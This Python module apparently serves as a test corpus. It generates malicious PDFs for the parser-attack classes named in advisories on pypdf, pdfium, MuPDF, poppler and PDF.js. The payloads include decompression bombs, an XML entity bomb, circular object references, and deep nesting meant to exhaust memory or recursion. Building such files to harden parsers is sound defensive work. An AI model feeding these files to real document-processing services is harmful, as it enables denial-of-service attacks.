"""PDFs made to harm their reader: one for each class of attack known of PDF parsers.

The classes are those of the published advisories on pypdf, pdfium, MuPDF, poppler and PDF.js. Every file
has a page that would be read as a paper, as far as its trick leaves one. `ATTACKS` names them all.
"""

import zlib
from collections.abc import Callable, Iterable, Mapping

GIGABYTE = 1 << 30
HUGE = 2_147_483_647
WORDS = b"BT /F1 9 Tf 72 700 Td (Minutes of the meeting) Tj ET\n"

ATTACKS: dict[str, Callable[[], bytes]] = {}
"""For each attack by name: what makes its file."""


def attack(name: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Enter a builder under this name."""

    def enter(build: Callable[[], bytes]) -> Callable[[], bytes]:
        ATTACKS[name] = build
        return build

    return enter


# --- making files ---------------------------------------------------------------------------------


def stream(content: bytes, entries: bytes = b"", length: bytes | None = None) -> bytes:
    """A stream object; `length` is what it says of itself, where that is a lie."""
    said = length if length is not None else b"%d" % len(content)
    return b"<</Length %s%s>>stream\n%s\nendstream" % (said, entries, content)


def packed(content: bytes, entries: bytes = b"") -> bytes:
    """A stream object, its content packed."""
    return stream(zlib.compress(content, 9), b"/Filter/FlateDecode" + entries)


def file_of(objects: Mapping[int, bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects with a true table of them; object 1 is its root."""
    parts, at = [b"%PDF-1.7\n"], {}
    size = len(parts[0])
    for number, content in objects.items():
        at[number] = size
        parts.append(b"%d 0 obj%s\nendobj\n" % (number, content))
        size += len(parts[-1])
    table = b"".join(b"%d 1\n%010d 00000 n \n" % (number, place) for number, place in at.items())
    parts.append(b"xref\n0 1\n0000000000 65535 f \n" + table)
    last = max(objects) + 1
    parts.append(
        b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (last, trailer, size)
    )
    return b"".join(parts)


def paper(
    content: bytes | None = None,
    *,
    root: bytes = b"",
    page: bytes = b"",
    resources: bytes = b"",
    font: bytes = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    box: bytes = b"[0 0 595 842]",
    more: Mapping[int, bytes] | None = None,
    trailer: bytes = b"",
) -> bytes:
    """A PDF of one page: what is drawn on it (a stream object), and whatever else is to be in it.

    Numbers 1 to 5 are its root, pages, page, content and font; `more` may replace them.
    """
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % root,
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>%s>>%s>>"
        % (box, resources, page),
        4: stream(WORDS) if content is None else content,
        5: font,
    }
    return file_of({**objects, **(more or {})}, trailer)


def deflated(block: bytes, times: int) -> bytes:
    """`block` so many times over, packed, without ever being unpacked here."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 1
    for _ in range(times):
        check = zlib.adler32(block, check)
    return b"\x78\xda" + one * times + b"\x03\x00" + check.to_bytes(4, "big")


def lzw_of_zeros(least: int) -> bytes:
    """At least so many zeros, packed by LZW: each code stands for a run one longer than the last."""
    bits, run = [f"{256:09b}", f"{0:09b}"], 1
    for code in range(258, 4094):
        width = 9 + (code >= 511) + (code >= 1023) + (code >= 2047)
        bits.append(f"{code:0{width}b}")
        run += code - 256
    octet = "".join(bits) * 8  # eight rounds end at a whole byte
    return int(octet, 2).to_bytes(len(octet) // 8, "big") * (least // (8 * run) + 1)


BLOCK = WORDS * (1_000_000 // len(WORDS))
ROUNDS = GIGABYTE // len(BLOCK) + 1


# --- outlines, page trees, name trees -------------------------------------------------------------


def outline(
    entries: Mapping[int, bytes], top: bytes = b"/First 20 0 R/Last 20 0 R/Count 1"
) -> bytes:
    """A paper with this outline; its first entry is object 20."""
    titled = {n: b"<</Title(Item)/Dest[3 0 R/Fit]%s>>" % one for n, one in entries.items()}
    return paper(root=b"/Outlines 19 0 R", more={19: b"<</Type/Outlines%s>>" % top, **titled})


@attack("outline: an entry is its own next")
def _() -> bytes:
    return outline({20: b"/Parent 19 0 R/Next 20 0 R"})


@attack("outline: entries in a circle by Next")
def _() -> bytes:
    return outline({20: b"/Next 21 0 R", 21: b"/Next 22 0 R", 22: b"/Next 20 0 R"})


@attack("outline: an entry lies under itself (First)")
def _() -> bytes:
    return outline({20: b"/First 20 0 R/Last 20 0 R/Count 9"})


@attack("outline: an entry has its own root below it, and is its own parent")
def _() -> bytes:
    return outline({20: b"/Parent 20 0 R/First 19 0 R/Next 19 0 R/Count -5"})


@attack("outline: every entry leads to the next one twice")
def _() -> bytes:
    return outline({n: b"/First %d 0 R/Next %d 0 R" % (n + 1, n + 1) for n in range(20, 90)})


@attack("outline: 100,000 entries deep")
def _() -> bytes:
    return outline({n: b"/First %d 0 R" % (n + 1) for n in range(20, 100_020)})


@attack("outline: 100,000 entries")
def _() -> bytes:
    return outline({n: b"/Next %d 0 R" % (n + 1) for n in range(20, 100_020)})


@attack("outline: titles of 1 MB")
def _() -> bytes:
    long = b"<</Title(%s)/Dest[3 0 R/Fit]/Next 21 0 R>>" % (b"x" * 1_000_000)
    root = b"<</First 20 0 R>>"
    return paper(root=b"/Outlines 19 0 R", more={19: root, 20: long, 21: long})


@attack("outline: named destinations in a tree that holds itself")
def _() -> bytes:
    more = {
        19: b"<</First 20 0 R>>",
        20: b"<</Title(Item)/Dest(a)>>",
        21: b"<</Limits[(a)(z)]/Kids[21 0 R 21 0 R]>>",
    }
    return paper(root=b"/Outlines 19 0 R/Names<</Dests 21 0 R>>", more=more)


@attack("page tree: holds itself")
def _() -> bytes:
    return paper(more={2: b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2/Parent 2 0 R>>"})


@attack("page tree: every node holds the next one twice, 60 deep")
def _() -> bytes:
    nodes = {
        n: b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count 4096>>" % (n + 1, n + 1) for n in range(10, 70)
    }
    last = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return paper(more={2: b"<</Type/Pages/Kids[10 0 R]/Count 4096>>", **nodes, 70: last})


@attack("page tree: 100,000 deep")
def _() -> bytes:
    nodes = {n: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(10, 100_010)}
    last = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return paper(more={2: b"<</Type/Pages/Kids[10 0 R]/Count 1>>", **nodes, 100_010: last})


@attack("page tree: parents in a circle, nothing of the page its own")
def _() -> bytes:
    return paper(more={3: b"<</Type/Page/Parent 6 0 R/Contents 4 0 R>>", 6: b"<</Parent 3 0 R>>"})


@attack("page tree: 2,147,483,647 pages declared, one there")
def _() -> bytes:
    return paper(more={2: b"<</Type/Pages/Kids[3 0 R]/Count %d>>" % HUGE})


@attack("page tree: 4,900 pages declared, one there")
def _() -> bytes:
    return paper(more={2: b"<</Type/Pages/Kids[3 0 R]/Count 4900>>"})


@attack("page tree: less than no pages declared")
def _() -> bytes:
    return paper(more={2: b"<</Type/Pages/Kids[3 0 R]/Count -7>>"})


@attack("page tree: 100,000 tiny pages")
def _() -> bytes:
    kids = b" ".join([b"3 0 R"] * 100_000)
    return paper(more={2: b"<</Type/Pages/Kids[%s]/Count 100000>>" % kids})


@attack("page tree: 5,000 pages, each of the same 10,000 words")
def _() -> bytes:
    kids = b" ".join([b"3 0 R"] * 5_000)
    pages = b"<</Type/Pages/Kids[%s]/Count 5000>>" % kids
    return paper(
        packed(b"BT /F1 9 Tf 9 TL\n" + b"(word word) '\n" * 5_000 + b"ET"), more={2: pages}
    )


@attack("attachments: a name tree that holds itself")
def _() -> bytes:
    tree = b"<</Limits[(a)(z)]/Kids[19 0 R 19 0 R]>>"
    return paper(root=b"/Names<</EmbeddedFiles 19 0 R>>", more={19: tree})


@attack("attachments: a name tree in which every node holds the next one twice")
def _() -> bytes:
    nodes = {n: b"<</Kids[%d 0 R %d 0 R]>>" % (n + 1, n + 1) for n in range(19, 80)}
    last = b"<</Names[(a)<</F(a.txt)>>]>>"
    return paper(root=b"/Names<</EmbeddedFiles 19 0 R>>", more={**nodes, 80: last})


@attack("attachments: 200,000 files")
def _() -> bytes:
    names = b"".join(b"(%06d)<</Type/Filespec/F(paper.txt)>>" % n for n in range(200_000))
    return paper(root=b"/Names<</EmbeddedFiles<</Names[%s]>>>>" % names)


@attack("annotations: 300,000 on a page")
def _() -> bytes:
    note = b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(a.txt)>>/Parent 20 0 R>>"
    return paper(page=b"/Annots[%s]" % (b"20 0 R " * 300_000), more={20: note})


# --- tables of objects ----------------------------------------------------------------------------


def with_table(entries: bytes, content: bytes = b"") -> bytes:
    """A paper whose table is a stream with these entries, over the true objects before it."""
    body = paper().partition(b"xref\n")[0]
    return body + b"9 0 obj%s\nendobj\nstartxref\n%d\n%%%%EOF" % (
        stream(content, b"/Type/XRef/Root 1 0 R" + entries),
        len(body),
    )


@attack("table: the one before it is itself (Prev)")
def _() -> bytes:
    body, _, rest = paper().partition(b"xref\n")
    return body + b"xref\n" + rest.replace(b"/Root", b"/Prev %d/Root" % len(body), 1)


@attack("table: two that each name the other as the one before")
def _() -> bytes:
    body, _, rest = paper().partition(b"xref\n")
    first = b"xref\n" + rest.replace(b"/Root", b"/Prev %010d/Root", 1)
    second = len(body) + len(first % 0)
    return (
        body
        + first % second
        + b"\n"
        + b"xref\n0 0\ntrailer<</Size 9/Root 1 0 R/Prev %d>>\n" % len(body)
        + b"startxref\n%d\n%%%%EOF" % (second + 1)
    )


@attack("table: a stream that names itself as the one before, and as XRefStm")
def _() -> bytes:
    at = len(paper().partition(b"xref\n")[0])
    return with_table(b"/Size 10/W[1 2 1]/Prev %d/XRefStm %d" % (at, at), b"\0\0\0\0" * 10)


@attack("table: a stream with fields of 2,147,483,647 bytes (W)")
def _() -> bytes:
    return with_table(b"/Size 10/W[%d %d %d]" % (HUGE, HUGE, HUGE), b"\1" * 100)


@attack("table: a stream with fields of no bytes, for 2,147,483,647 objects")
def _() -> bytes:
    return with_table(b"/Size %d/W[0 0 0]/Index[0 %d]" % (HUGE, HUGE), b"\1" * 100)


@attack("table: a stream for 2,147,483,647 objects (Size, Index)")
def _() -> bytes:
    return with_table(b"/Size %d/W[1 2 1]/Index[%d %d 0 %d]" % ((HUGE,) * 4), b"\1" * 100)


@attack("table: a stream that unpacks to a gigabyte")
def _() -> bytes:
    content = deflated(b"\1\0\0\0" * 250_000, 1_074)
    return with_table(b"/Size 268435456/W[1 2 1]/Filter/FlateDecode", content)


@attack("table: 2,147,483,647 objects declared, no root")
def _() -> bytes:
    return paper().replace(b"/Size 6/Root 1 0 R", b"/Size %d" % HUGE)


@attack("table: a section of 999,999,999 objects")
def _() -> bytes:
    return paper().replace(b"xref\n0 1\n", b"xref\n0 999999999\n")


@attack("table: it begins at no place of the file")
def _() -> bytes:
    return paper().rpartition(b"startxref")[0] + b"startxref\n99999999999999999999\n%%EOF"


@attack("table: 5,000 updates one after the other")
def _() -> bytes:
    parts, size = [paper()], len(paper())
    before = paper().index(b"xref\n")
    for _ in range(5_000):
        update = b"\nxref\n0 0\ntrailer<</Size 6/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF"
        parts.append(update % (before, size + 1))
        before, size = size + 1, size + len(parts[-1])
    return b"".join(parts)


@attack("table: none, and 200,000 times the same object")
def _() -> bytes:
    body = paper().partition(b"xref\n")[0]
    return body + b"8 0 obj<</A 8 0 R>>endobj\n" * 200_000 + b"trailer<</Root 1 0 R>>"


@attack("table: none, and 1,000,000 times the word obj")
def _() -> bytes:
    return b"%PDF-1.7\n" + b"1 0 obj " * 1_000_000 + b"trailer<</Root 1 0 R>>\n%%EOF"


@attack("linearised: all it says of itself is false")
def _() -> bytes:
    lies = b"%%PDF-1.7\n7 0 obj<</Linearized 1/L %d/H[%d %d]/O 99999/E %d/N %d/T %d>>endobj\n"
    return paper().replace(b"%PDF-1.7\n", lies % ((HUGE,) * 6), 1)


@attack("root: a chain of references to itself")
def _() -> bytes:
    return paper(more={1: b" 6 0 R", 6: b" 7 0 R", 7: b" 1 0 R"})


# --- objects in streams, lengths ------------------------------------------------------------------


def in_streams(entries: Iterable[bytes]) -> bytes:
    """A paper whose page is to be found in streams of objects with these entries (numbers from 20)."""
    held = {n: stream(b"3 0 <</Type/Page>>", one) for n, one in enumerate(entries, 20)}
    body = file_of({1: b"<</Pages 2 0 R>>", 2: b"<</Kids[3 0 R]/Count 1>>", **held})
    body = body.partition(b"xref\n")[0]
    places = {n: body.index(b"%d 0 obj" % n) for n in (1, 2, *held)}
    rows = [b"\0\0\0\0"] * 30
    for number, place in places.items():
        rows[number] = b"\1" + place.to_bytes(2, "big") + b"\0"
    rows[3] = b"\2" + (20).to_bytes(2, "big") + b"\0"
    table = stream(b"".join(rows), b"/Type/XRef/Root 1 0 R/Size 30/W[1 2 1]")
    return body + b"29 0 obj%s\nendobj\nstartxref\n%d\n%%%%EOF" % (table, len(body))


@attack("objects in streams: streams that extend each other in a circle")
def _() -> bytes:
    rest = b"/Type/ObjStm/N 1/First 4"
    return in_streams([rest + b"/Extends 21 0 R", rest + b"/Extends 20 0 R"])


@attack("objects in streams: 2,147,483,647 of them declared")
def _() -> bytes:
    return in_streams([b"/Type/ObjStm/N %d/First 4" % HUGE])


@attack("objects in streams: they begin before the stream")
def _() -> bytes:
    return in_streams([b"/Type/ObjStm/N 1/First -2147483648"])


@attack("objects in streams: the number of them stands in the stream itself")
def _() -> bytes:
    return in_streams([b"/Type/ObjStm/N 3 0 R/First 3 0 R"])


@attack("length: 1,099,511,627,776 bytes declared")
def _() -> bytes:
    return paper(stream(WORDS, length=b"1099511627776"))


@attack("length: less than nothing")
def _() -> bytes:
    return paper(stream(WORDS, length=b"-2147483648"))


@attack("length: to be found in the stream itself")
def _() -> bytes:
    return paper(stream(WORDS, length=b"4 0 R"))


@attack("length: in a circle of references")
def _() -> bytes:
    return paper(stream(WORDS, length=b"8 0 R"), more={8: b" 9 0 R", 9: b" 8 0 R"})


# --- streams that unpack to a gigabyte ------------------------------------------------------------


@attack("bomb: Flate, a gigabyte of words")
def _() -> bytes:
    return paper(stream(deflated(BLOCK, ROUNDS), b"/Filter/FlateDecode"))


@attack("bomb: Flate, a gigabyte of white space")
def _() -> bytes:
    return paper(stream(deflated(b" " * 1_000_000, 1_074), b"/Filter/FlateDecode"))


@attack("bomb: Flate in Flate in Flate")
def _() -> bytes:
    twice = zlib.compress(zlib.compress(deflated(BLOCK, ROUNDS), 9), 9)
    return paper(stream(twice, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"))


@attack("bomb: LZW, a gigabyte")
def _() -> bytes:
    return paper(stream(lzw_of_zeros(GIGABYTE), b"/Filter/LZWDecode"))


@attack("bomb: RunLength, a gigabyte")
def _() -> bytes:
    return paper(stream(b"\x81 " * (GIGABYTE // 128), b"/Filter/RunLengthDecode"))


@attack("bomb: RunLength in Flate")
def _() -> bytes:
    content = zlib.compress(b"\x81 " * (GIGABYTE // 128), 9)
    return paper(stream(content, b"/Filter[/FlateDecode/RunLengthDecode]"))


@attack("bomb: ASCII85 in Flate, without an end")
def _() -> bytes:
    content = zlib.compress(b"z" * 100_000_000, 9)
    return paper(stream(content, b"/Filter[/FlateDecode/ASCII85Decode]"))


@attack("bomb: ASCIIHex, a thousand times over")
def _() -> bytes:
    return paper(stream(b"41" * 1_000_000, b"/Filter[%s]" % (b"/ASCIIHexDecode" * 1_000)))


@attack("bomb: forty content streams of 100 MB, one after the other")
def _() -> bytes:
    hundred = stream(deflated(BLOCK, 100), b"/Filter/FlateDecode")
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents[%s]>>" % (b"4 0 R " * 40)
    return paper(hundred, more={3: page})


@attack("bomb: rows of 2,147,483,647 columns (Predictor)")
def _() -> bytes:
    parameters = b"/DecodeParms<</Predictor 15/Columns %d/Colors 32/BitsPerComponent 32>>" % HUGE
    return paper(packed(WORDS, parameters))


@attack("bomb: letters of a title, 20 MB")
def _() -> bytes:
    return paper(trailer=b"/Info 8 0 R", more={8: b"<</Title(%s)>>" % (b"x" * 20_000_000)})


@attack("bomb: entities in the description (XMP)")
def _() -> bytes:
    rounds = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    text = f'<!DOCTYPE x [<!ENTITY e0 "lol">{rounds}]><x>&e11;</x>'
    return paper(root=b"/Metadata 8 0 R", more={8: stream(text.encode(), b"/Type/Metadata")})


# --- what is drawn --------------------------------------------------------------------------------


def form(content: bytes, entries: bytes = b"") -> bytes:
    """A form XObject with this content."""
    return stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]" + entries)


@attack("forms: a million times the same one")
def _() -> bytes:
    return paper(
        packed(b"/X Do\n" * 1_000_000),
        resources=b"/XObject<</X 10 0 R>>",
        more={10: form(WORDS, b"/Resources<</Font<</F1 5 0 R>>>>")},
    )


@attack("forms: 50,000 of them")
def _() -> bytes:
    numbers = range(10, 50_010)
    names = b"".join(b"/X%d %d 0 R" % (n, n) for n in numbers)
    drawn = b"".join(b"/X%d Do\n" % n for n in numbers)
    one = form(b"BT (a) Tj ET")
    return paper(
        packed(drawn), resources=b"/XObject<<%s>>" % names, more=dict.fromkeys(numbers, one)
    )


@attack("forms: one that draws itself")
def _() -> bytes:
    itself = b"/Resources<</XObject<</X 10 0 R>>/Font<</F1 5 0 R>>>>"
    return paper(
        stream(b"/X Do"),
        resources=b"/XObject<</X 10 0 R>>",
        more={10: form(WORDS + b"/X Do /X Do", itself)},
    )


@attack("forms: each draws the next one ten times, 30 deep")
def _() -> bytes:
    forms = {
        n: form(b"/X Do\n" * 10, b"/Resources<</XObject<</X %d 0 R>>>>" % (n + 1))
        for n in range(10, 40)
    }
    last = form(WORDS, b"/Resources<</Font<</F1 5 0 R>>>>")
    return paper(stream(b"/X Do"), resources=b"/XObject<</X 10 0 R>>", more={**forms, 40: last})


@attack("forms: 50,000 deep")
def _() -> bytes:
    forms = {
        n: form(b"/X Do", b"/Resources<</XObject<</X %d 0 R>>>>" % (n + 1))
        for n in range(10, 50_010)
    }
    return paper(stream(b"/X Do"), resources=b"/XObject<</X 10 0 R>>", more=forms)


@attack("drawing: 20,000,000 lines")
def _() -> bytes:
    return paper(stream(deflated(b"0 0 m 9 9 l S\n" * 70_000, 286), b"/Filter/FlateDecode"))


@attack("drawing: 3,000,000 letters, each set apart")
def _() -> bytes:
    return paper(stream(deflated(b"BT /F1 9 Tf (a) Tj ET\n" * 50_000, 60), b"/Filter/FlateDecode"))


@attack("drawing: 30,000,000 letters in one word")
def _() -> bytes:
    content = b"BT /F1 9 Tf 1 1 Td (" + b"a" * 30_000_000 + b") Tj ET"
    return paper(packed(content))


@attack("drawing: 300,000 lines of text on a page")
def _() -> bytes:
    lines = b"".join(b"(%d. RESOLVED that the item be noted) '\n" % n for n in range(300_000))
    return paper(packed(b"BT /F1 1 Tf .01 TL 9 800 Td\n" + lines + b"ET"))


@attack("drawing: the state is kept 30,000,000 times (q)")
def _() -> bytes:
    return paper(stream(deflated(b"q " * 500_000, 60), b"/Filter/FlateDecode"))


@attack("drawing: 10,000,000 arrays, each in the one before")
def _() -> bytes:
    return paper(packed(b"[" * 10_000_000 + WORDS))


@attack("drawing: 2,000,000 dictionaries, each in the one before")
def _() -> bytes:
    return paper(packed(b"/A <</A" * 2_000_000 + WORDS))


@attack("drawing: marked content, 3,000,000 deep")
def _() -> bytes:
    return paper(packed(b"/P <</MCID 0>> BDC\n" * 3_000_000 + WORDS))


@attack("drawing: an inline picture without an end")
def _() -> bytes:
    head = b"BI /W 100000 /H 100000 /BPC 8 /CS /RGB /F /Fl ID "
    return paper(stream(head + deflated(b"\xff" * 1_000_000, 100)))


@attack("drawing: an inline picture in ASCII85 without an end")
def _() -> bytes:
    return paper(stream(b"BI /W 9999 /H 9999 /BPC 8 /F /A85 ID " + b"z" * 5_000_000))


@attack("drawing: 500,000 inline pictures, none with an end")
def _() -> bytes:
    return paper(packed(b"BI /W 9 /H 9 /BPC 8 /CS /G ID x\n" * 500_000))


@attack("picture: 2,147,483,647 dots wide and high")
def _() -> bytes:
    size = b"/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceRGB" % (HUGE, HUGE)
    image = packed(b"\xff" * 1_000, b"/Type/XObject/Subtype/Image" + size)
    return paper(
        stream(b"595 0 0 842 0 0 cm /X Do"), resources=b"/XObject<</X 10 0 R>>", more={10: image}
    )


@attack("picture: 10,000 by 10,000 dots, its mask its own mask")
def _() -> bytes:
    size = b"/Width 10000/Height 10000/BitsPerComponent 8/ColorSpace/DeviceRGB/SMask 10 0 R"
    content = deflated(b"\xff" * 1_000_000, 300)
    image = stream(content, b"/Type/XObject/Subtype/Image/Filter/FlateDecode" + size)
    return paper(
        stream(b"595 0 0 842 0 0 cm /X Do"), resources=b"/XObject<</X 10 0 R>>", more={10: image}
    )


@attack("colours: a space that stands on itself")
def _() -> bytes:
    space = b"[/Indexed 10 0 R 255 (abc)]"
    return paper(
        stream(b"/C cs 1 scn\n" + WORDS), resources=b"/ColorSpace<</C 10 0 R>>", more={10: space}
    )


@attack("page: 1e30 points wide and high")
def _() -> bytes:
    return paper(box=b"[0 0 1000000000000000000000000000000 1000000000000000000000000000000]")


@attack("page: no width and no height")
def _() -> bytes:
    return paper(box=b"[0 0 0 0]", page=b"/CropBox[9 9 9 9]/Rotate 1000000007")


# --- fonts ----------------------------------------------------------------------------------------


@attack("font: descends from itself")
def _() -> bytes:
    return paper(
        font=b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[5 0 R]>>"
    )


@attack("font: a letter is drawn with the font itself (Type 3)")
def _() -> bytes:
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</M 10 0 R>>"
        b"/Encoding<</Differences[77/M]>>/FirstChar 77/LastChar 77/Widths[9]"
        b"/Resources<</Font<</F1 5 0 R>>>>>>"
    )
    return paper(font=font, more={10: stream(b"9 0 d0 BT /F1 9 Tf (MMMM) Tj ET")})


def with_cmap(cmap: bytes, entries: bytes = b"") -> bytes:
    """A paper whose letters are told by this map."""
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 10 0 R%s>>" % entries
    return paper(font=font, more={10: packed(cmap)})


@attack("font: a map of 4,294,967,295 letters in one range")
def _() -> bytes:
    return with_cmap(
        b"1 begincodespacerange<00000000><FFFFFFFF>endcodespacerange\n"
        b"1 beginbfrange<00000000><FFFFFFFF><0041>endbfrange"
    )


@attack("font: a map of 1,000,000 ranges")
def _() -> bytes:
    return with_cmap(
        b"1000000 beginbfrange\n" + b"<0000><FFFF><0041>\n" * 1_000_000 + b"endbfrange"
    )


@attack("font: a letter that stands for 10,000,000 letters")
def _() -> bytes:
    return with_cmap(b"1 beginbfchar<4D><%s>endbfchar" % (b"0041" * 10_000_000))


@attack("font: its map goes by itself (usecmap)")
def _() -> bytes:
    return paper(
        font=b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding 10 0 R/DescendantFonts[11 0 R]>>",
        more={
            10: stream(b"/A usecmap", b"/Type/CMap/CMapName/A/UseCMap 10 0 R"),
            11: b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<<>>>>",
        },
    )


@attack("font: widths of 2,147,483,647 letters")
def _() -> bytes:
    return paper(
        font=b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[11 0 R]>>",
        more={
            11: b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/W[0 %d 500 0 %d 9]>>" % (HUGE, HUGE)
        },
    )


@attack("font: 10,000 fonts on a page")
def _() -> bytes:
    names = b"".join(b"/G%d %d 0 R" % (n, n) for n in range(10, 10_010))
    drawn = b"".join(b"BT /G%d 9 Tf (a) Tj ET\n" % n for n in range(10, 10_010))
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</Font<<%s>>>>>>"
    return paper(packed(drawn), more={3: page % names, **dict.fromkeys(range(10, 10_010), font)})


# --- syntax, locks, what is no file ---------------------------------------------------------------


@attack("syntax: 1,000,000 arrays, each in the one before")
def _() -> bytes:
    return paper(more={8: b"[" * 1_000_000, 1: b"<</Type/Catalog/Pages 2 0 R/A 8 0 R>>"})


@attack("syntax: the root in 1,000,000 dictionaries")
def _() -> bytes:
    return paper(more={1: b"<</A" * 1_000_000 + b"<</Type/Catalog/Pages 2 0 R>>"})


@attack("syntax: 10,000,000 brackets in a string")
def _() -> bytes:
    return paper(root=b"/Lang(%s" % (b"(" * 10_000_000))


@attack("syntax: a number of 10,000,000 digits")
def _() -> bytes:
    return paper(box=b"[0 0 595 %s]" % (b"8" * 10_000_000))


@attack("syntax: a name of 10,000,000 letters")
def _() -> bytes:
    return paper(root=b"/%s 1" % (b"a" * 10_000_000))


@attack("lock: a handler that nobody knows")
def _() -> bytes:
    return paper(trailer=b"/Encrypt<</Filter/Kelderby/V 1/R 2/O(a)/U(b)/P -4>>/ID[(a)(b)]")


@attack("lock: a version that there is not, with a key of 2,147,483,647 bits")
def _() -> bytes:
    lock = b"/Encrypt<</Filter/Standard/V 99/R 99/Length %d/O(%s)/U(%s)/P -4>>/ID[(a)(b)]"
    return paper(trailer=lock % (HUGE, b"a" * 32, b"b" * 32))


@attack("lock: its description is the file's own root")
def _() -> bytes:
    return paper(trailer=b"/Encrypt 1 0 R/ID[(a)(b)]")


@attack("file: zeros before it and behind it")
def _() -> bytes:
    return bytes(1_000) + paper() + bytes(20_000_000)


@attack("file: cut off in the middle of a packed stream")
def _() -> bytes:
    whole = paper(packed(WORDS * 10_000))
    return whole[: len(whole) // 2]


@attack("file: the mark of a PDF, and 10,000,000 times the same byte")
def _() -> bytes:
    return b"%PDF-1.7\n" + b"<" * 10_000_000
